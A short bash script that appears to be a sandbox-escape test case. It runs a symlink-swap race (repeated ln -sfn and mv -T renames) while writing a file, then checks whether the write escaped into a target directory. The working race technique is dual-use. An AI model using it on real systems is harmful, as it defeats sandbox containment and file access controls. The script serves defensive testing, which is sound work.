#!/bin/bash
# must NOT win a race by swapping a folder for a link while it is written to. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
# VERIFY: [ -e "$ATK_OUT/atk_race" ]
. "${SBX_ENV:-./attack.env}" || exit 77
mkdir -p atk_m/d; (for i in $(seq 300); do ln -sfn "$ATK_OUT" atk_m/l; mv -T atk_m/d atk_m/e 2>/dev/null; mv -T atk_m/l atk_m/d 2>/dev/null; mv -T atk_m/d atk_m/l 2>/dev/null; mv -T atk_m/e atk_m/d 2>/dev/null; done) & p=$!
while kill -0 $p 2>/dev/null; do echo x > atk_m/d/atk_race 2>/dev/null; done; [ -e "$ATK_OUT/atk_race" ]
